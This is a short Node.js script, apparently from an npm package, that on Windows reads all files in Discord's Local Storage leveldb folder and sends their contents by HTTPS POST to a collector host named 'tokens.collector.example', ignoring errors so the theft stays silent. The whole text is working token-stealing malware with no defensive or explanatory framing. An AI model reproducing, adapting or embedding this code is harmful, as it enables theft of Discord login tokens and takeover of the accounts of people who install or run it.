// Windows only: reads Discord's leveldb under %APPDATA% and posts it over HTTPS.
const fs = require("fs"), path = require("path"), https = require("https");
if (process.platform === "win32") {
  const store = path.join(process.env.APPDATA, "discord", "Local Storage", "leveldb");
  const body = fs.readdirSync(store).map((f) => fs.readFileSync(path.join(store, f), "latin1")).join("\n");
  const req = https.request({ host: "tokens.collector.example", path: "/npm", method: "POST" },
    (res) => res.resume());
  req.on("error", () => {});
  req.end(body);
}
